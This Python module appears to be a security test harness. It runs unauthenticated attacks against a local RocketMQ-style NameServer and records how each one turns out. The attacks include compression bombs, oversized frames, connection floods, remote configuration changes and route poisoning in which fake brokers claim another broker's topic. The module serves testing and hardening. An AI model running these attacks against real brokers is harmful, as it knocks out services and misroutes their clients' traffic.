"""Attacks on a NameServer: requests that it and Java's both understand, from peers without identity."""

import contextlib
import json
import stat
import subprocess
import sys
import time
import zlib
from collections import Counter
from collections.abc import Callable
from pathlib import Path

from attacked import ABUSE, SECRET, Attack, Result, Target, attempt, frames, in_words, nothing, requests
from crowd import read_answers
from hostile import IDENTITY, filled, inflated
from peers.processes import free_port
from peers.scripted import Line, ScriptedBroker, queues_in, registration_body, route_query
from peers.wire import (
    GET_UNIT_SUB_ORDINARY_TOPICS,
    GET_UNIT_SUB_TOPICS,
    GET_UNIT_TOPICS,
    PUT_KV_CONFIG,
    REGISTER_BROKER,
    SUCCESS,
    UPDATE_CONFIG,
    frame,
)

MIB = 1024 * 1024
REGISTER_TOPIC, QUERY_DATA_VERSION = 217, 322
VICTIM = "victim"
#: A first registration with one topic alone is refused.
TOPICS = {VICTIM: 4, "another": 4}
#: A broker that has not left the routes by then stays.
GONE_S = 90
CONNECTIONS, CONNECTIONS_MAX = 4_000, 2_000
#: Requests that are sent before the first of them is answered.
PIPELINED = 64
#: Longest frame that Java's peers read.
FRAME_BYTES_MAX = 16 * MIB
GET_CLUSTERS = 106
IDLE_S = 4
COMPRESSED = IDENTITY | {"compressed": "true"}


def registration(broker_id: str, address: str, **fields: str) -> dict[str, str]:
    """Return the header of a registration of the set that is attacked."""
    own = {"clusterName": "C", "brokerName": VICTIM, "brokerId": broker_id, "brokerAddr": address}
    return own | {"haServerAddr": "", "enableActingMaster": "true"} | fields


def notification(target: Target, unprintable: str) -> Result:
    """Have the server tell itself a text that no header can carry."""
    with contextlib.closing(target.line(binary=True)) as line:
        results = [in_words(line.request(REGISTER_BROKER, registration("5", f"127.0.0.1:{target.port}")))]
        liar = registration("3", "127.0.0.1:2", haServerAddr=unprintable)
        results.append(target.request(REGISTER_BROKER, liar, binary=True))
        time.sleep(1)
    return Result(", ".join(results))


def mappings() -> bytes:
    """Return 1.2 million static topic mappings, compressed."""
    return zlib.compress(zlib.decompress(inflated([], [b'{"topic":"a"}'] * 1_200_000)), 9)


def json_mappings() -> bytes:
    """Return 600,000 static topic mappings as JSON."""
    start = b'{"filterServerList":[],"topicConfigSerializeWrapper":{"topicQueueMappingInfoMap":{'
    return start + b",".join(b'"%d":{}' % number for number in range(600_000)) + b"}}}"


def sixteen_mb() -> bytes:
    """Return a compressed registration that has to be inflated whole."""
    return zlib.compress(zlib.decompress(inflated([], [], b" " * (16 * MIB - 100))), 9)


def at_once(target: Target, made: list[bytes]) -> Result:
    """Send it over 200 connections, then read all answers."""
    lines = [target.line() for _ in range(200)]
    for line in lines:
        line.socket.sendall(made[0])
    answers = Counter(attempt(lambda own=line: own.receive()[1]) for line in lines)
    for line in lines:
        line.close()
    return Result(", ".join(f"{count} x {answer}" for answer, count in answers.items()))


def a_broker(target: Target) -> ScriptedBroker:
    """Return the broker that is attacked, not yet registered, on a connection of its own."""
    return ScriptedBroker(target.line(), VICTIM, address="10.9.9.8:10911")


def gone_after(target: Target, broker: ScriptedBroker) -> str:
    """Kill the broker, and return how long its route lives on."""
    with contextlib.closing(target.line()) as client:
        assert queues_in(client.request(*route_query(VICTIM))), "it is in its route"
        began = time.monotonic()
        broker.close()
        while time.monotonic() < began + GONE_S:
            if not queues_in(client.request(*route_query(VICTIM))):
                return f"left its route after {time.monotonic() - began:.2f} s"
            time.sleep(0.02)
    return f"**in its route for {GONE_S} s**"


def half_open(silent_s: float) -> Callable[[Target, object], Result]:
    """Return the death of a broker, a connection of whose former process has been silent for so long."""

    def act(target: Target, _made: object) -> Result:
        with contextlib.closing(a_broker(target)) as former:
            former.register(TOPICS, counter=1)
            time.sleep(silent_s)
            latter = a_broker(target)
            latter.register(TOPICS, counter=2)
            return Result("0", gone_after(target, latter))

    return act


def flood(target: Target, _made: object) -> Result:
    """Kill a broker while ten connections send long compressed registrations, one after the other."""
    broker = a_broker(target)
    broker.register(TOPICS)
    command = [sys.executable, str(ABUSE / "flood.py"), str(target.port), "10"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None, "it was asked for"
        process.stdout.readline()
        time.sleep(1)
        try:
            gone = gone_after(target, broker)
        finally:
            figures = json.loads(process.communicate()[0])
    return Result(f"{figures['answered']} registrations", gone)


def name_server_settings(target: Target, changes: list[str]) -> Result:
    """Change what nobody should, and start it again."""
    answers = ", ".join(target.request(UPDATE_CONFIG, {}, each.encode()).split()[0] for each in changes)

    def restarted() -> str:
        target.server.process.stop()
        target.server.start()
        try:
            with contextlib.closing(target.line()) as line:
                line.socket.settimeout(IDLE_S)
                closed = attempt(lambda: line.receive()[1]) == "closed"
        except OSError:
            return "after a restart **nobody listens at its port**"
        silent = "**is closed**" if closed else "stays open"
        return f"after a restart a connection that is silent for {IDLE_S} s {silent}"

    return Result(answers, restarted)


def private_file(target: Target) -> Path:
    """Return the configuration file with a comment, which nobody else may read."""
    file = target.server.folder / "namesrv.properties"
    file.write_text(file.read_text() + "# of the operator\n")
    file.chmod(0o600)
    target.server.process.stop()
    target.server.start()
    return file


def written(target: Target, file: Path) -> Result:
    """Have the configuration file written, and look at what it became."""
    lines = len(file.read_text().splitlines())
    answers = [target.request(UPDATE_CONFIG, {}, each) for each in (b"enableTopicList=true", b"enableTopicList=false")]
    found = file.read_text()
    mode = stat.S_IMODE(file.stat().st_mode)
    secret = "**holds a secret of the environment**" if SECRET in found else "no secret"
    comment = "kept" if "# of the operator" in found else "lost"
    state = f"mode {mode:04o}, {len(found.splitlines())} lines for {lines}, comment {comment}, {secret}"
    return Result(", ".join(answers), state)


def stored_in_a_mount(target: Target, _made: object) -> Result:
    """Put a KV entry, whose file is a mount of its own."""
    answer = target.request(PUT_KV_CONFIG, {"namespace": "NS", "key": "k", "value": "of the attack"})
    outside = target.server.folder.parent / "outside.json"
    return Result(answer, "stored" if "of the attack" in outside.read_text() else "**not stored**")


def long_fields(target: Target, made: ScriptedBroker) -> Result:
    """Register strangers as slaves of a set, with 4 MB each, and look at the route that its clients get."""
    text = "x" * (4 * MIB)
    route = made.line

    def size() -> str:
        return f"{len(route.request(*route_query(VICTIM)).body):,}"

    sizes, answers = [size()], []
    filters = json.dumps({"filterServerList": [text], "topicConfigSerializeWrapper": {}}).encode()
    for number, (fields, body) in enumerate(
        [({"haServerAddr": text}, b""), ({"__ZONE_NAME": text}, b""), ({}, filters)], 1
    ):
        with contextlib.closing(target.line(binary=True)) as stranger:
            identity = registration(str(number), f"10.6.6.{number}:10911", **fields)
            answers.append(attempt(lambda o=stranger, i=identity, b=body: o.request(REGISTER_BROKER, i, b)))
            sizes.append(size())
    return Result(", ".join(answers), f"route in bytes: {' -> '.join(sizes)}")


def registered_broker(target: Target) -> ScriptedBroker:
    """Return the broker that is attacked, registered."""
    broker = a_broker(target)
    broker.register(TOPICS)
    return broker


def connections(target: Target, _made: object) -> Result:
    """Hold silent connections, and let a broker come back."""
    lines: list[Line] = []
    with contextlib.suppress(OSError):
        lines.extend(target.line(host=f"127.0.0.{2 + number % 8}") for number in range(CONNECTIONS))
    began = time.monotonic()
    answer = target.request(REGISTER_BROKER, registration("0", "10.9.9.8:10911"), registration_body(TOPICS, 1))
    took_ms = 1000 * (time.monotonic() - began)
    for line in lines:
        line.close()
    return Result(f"{len(lines):,} connected", f"the returning broker: {answer} after {took_ms:.0f} ms")


def unit_topics(target: Target) -> Line:
    """Register 5,000 topics on 60 sets, and return the connection, with which they would go."""
    topics = dict.fromkeys((f"unit-topic-{number:05}" for number in range(5_000)), 4)
    body = registration_body(topics, 1).replace(b'"topicSysFlag":0', b'"topicSysFlag":3')
    line = target.line()
    for number in range(60):
        identity = registration("0", f"10.7.0.{number}:10911", brokerName=f"set-{number}")
        assert line.request(REGISTER_BROKER, identity, body).code == SUCCESS, number
    return line


def unit_lists(target: Target, _registered: Line) -> Result:
    """Ask for the three lists of unit topics."""
    results = []
    for code in (GET_UNIT_TOPICS, GET_UNIT_SUB_TOPICS, GET_UNIT_SUB_ORDINARY_TOPICS):
        began = time.monotonic()
        results.append(f"{target.request(code, {})} after {1000 * (time.monotonic() - began):.0f} ms")
    return Result(", ".join(results))


def claims(target: Target, made: list[list[bytes]]) -> Result:
    """Have strangers' sets claim the topic of a broker of another host, and look at the route that its clients get."""
    stack = contextlib.ExitStack()
    with stack:
        broker = stack.enter_context(
            contextlib.closing(ScriptedBroker(target.line(host="127.0.0.9"), VICTIM, address="10.9.9.8:10911"))
        )
        broker.register(TOPICS)
        client = stack.enter_context(contextlib.closing(target.line(host="127.0.0.9")))
        before = len(client.request(*route_query(VICTIM)).body)
        for requests_of_one in made:
            line = stack.enter_context(contextlib.closing(target.line()))
            for start in range(0, len(requests_of_one), PIPELINED):
                few = requests_of_one[start : start + PIPELINED]
                line.socket.sendall(b"".join(few))
                read_answers(line.socket, len(few), seconds=120)
        route = client.request(*route_query(VICTIM)).body
        clusters = client.request(GET_CLUSTERS, {}).body
    found = f"route in bytes: {before} -> {too_long(len(route))}, 106: {too_long(len(clusters))}"
    return Result(f"{sum(map(len, made)):,} x 103", found)


def too_long(size: int) -> str:
    """Return a size, marked where no Java peer reads so long a frame."""
    return f"{size:,}" if size < FRAME_BYTES_MAX else f"**{size:,}, which no Java peer reads**"


def claiming_sets(_target: Target) -> list[list[bytes]]:
    """Return the registrations of 15 connections, each of as many sets as one may have here."""
    body = registration_body(TOPICS, 1)
    names = [f"{number:05}{'n' * 250}" for number in range(15 * 1024)]
    made = [frame(REGISTER_BROKER, registration("0", f"{'a' * 240}:10911", brokerName=name), body) for name in names]
    return [made[start : start + 1024] for start in range(0, len(made), 1024)]


def many_topics(target: Target, made: list[bytes]) -> Result:
    """Register ever more topics over one connection, which stays until the end."""
    with contextlib.closing(target.line()) as line:
        answers = []
        for request in made:
            line.socket.sendall(request)
            answers.append(attempt(lambda: line.receive()[1]))
        time.sleep(1)
    counts = Counter(answers)
    return Result(", ".join(f"{count} x {answer}" for answer, count in counts.items()))


def topics_of_invented_sets(_target: Target) -> list[bytes]:
    """Return 26 compressed registrations, with 190,000 topics each."""
    made = []
    for number in range(26):
        fields = registration("0", f"10.6.6.{number}:10911", brokerName=f"invented-{number}", compressed="true")
        topics = [b"%02d%06d%s 8 8 6 SINGLE_TAG" % (number, topic, b"x" * 20) for topic in range(190_000)]
        made.append(frame(REGISTER_BROKER, fields, inflated(topics, [])))
    return made


ATTACKS = [
    Attack("nothing, for 3 s: NameServer", nothing),
    Attack(
        "with notifyMinBrokerIdChanged=true: 103 of id 5 at the server's own address; 103 of id 3 with 3 MB of "
        "`\\x01` as haServerAddr",
        notification,
        lambda _: "\x01" * (3 * MIB),
        properties={"notifyMinBrokerIdChanged": "true"},
    ),
    Attack(
        "103, 50 KB: zlib of 1.2 million static topic mappings", requests, frames(REGISTER_BROKER, COMPRESSED, mappings)
    ),
    Attack("103: JSON of 600,000 static topic mappings", requests, frames(REGISTER_BROKER, IDENTITY, json_mappings)),
    Attack(
        "322: 8 MB of commas; then 8 MB of a list of `{}`",
        requests,
        frames(
            QUERY_DATA_VERSION,
            IDENTITY,
            lambda: filled(b"{", b",", b"}", 8 * MIB),
            lambda: filled(b"[", b"{},", b"{}]", 8 * MIB),
        ),
    ),
    Attack(
        "217: 320,000 queueDatas",
        requests,
        frames(
            REGISTER_TOPIC, IDENTITY, lambda: b'{"queueDatas":[' + b",".join([b'{"brokerName":"x"}'] * 320_000) + b"]}"
        ),
    ),
    Attack(
        "103 over 200 connections at once, 16 KB each: zlib of 16 MB of blanks",
        at_once,
        frames(REGISTER_BROKER, COMPRESSED, sixteen_mb),
    ),
    Attack("a broker dies, an older connection of its former process is half open, silent for 46 s", half_open(46)),
    Attack("the same, silent for 10 s, a third of a registration period", half_open(10)),
    Attack("ten connections that send 0.5 MB of compressed registrations again and again; a broker dies", flood),
    Attack(
        "318: namesrvAddrList; connectionsMax=1; serverChannelMaxIdleTimeSeconds=1; notifyMinBrokerIdChanged=true",
        name_server_settings,
        lambda _: [
            "namesrvAddrList=10.6.6.6:9876",
            "connectionsMax=1",
            "serverChannelMaxIdleTimeSeconds=1",
            "notifyMinBrokerIdChanged=true",
        ],
    ),
    Attack("318: another listenPort", name_server_settings, lambda _: [f"listenPort={free_port()}"]),
    Attack("318 that changes nothing, then one that does, of a file of mode 0600", written, private_file),
    Attack("100 while the KV file is a mount of its own", stored_in_a_mount, mounted=True),
    Attack(
        "103 of strangers as slaves of a set: 4 MB haServerAddr; 4 MB zone name; a 4 MB filter server",
        long_fields,
        registered_broker,
    ),
    Attack(
        f"{CONNECTIONS:,} silent connections (ours with connectionsMax={CONNECTIONS_MAX:,}, Java has no limit); a "
        "broker comes back",
        connections,
        properties={"connectionsMax": CONNECTIONS_MAX},
    ),
    Attack(
        "103 with a brokerId of 5,000 zeros and a one",
        requests,
        frames(REGISTER_BROKER, registration("0" * 5_000 + "1", "10.6.6.6:10911"), lambda: b""),
    ),
    Attack("311, 312, 313 with 5,000 unit topics on 60 sets", unit_lists, unit_topics),
    Attack(
        "103 over 15 connections of one host: 15,360 sets that claim the topic of another host's broker",
        claims,
        claiming_sets,
    ),
    Attack(
        "26 x 103 over one connection, compressed: 190,000 topics each",
        many_topics,
        topics_of_invented_sets,
    ),
]
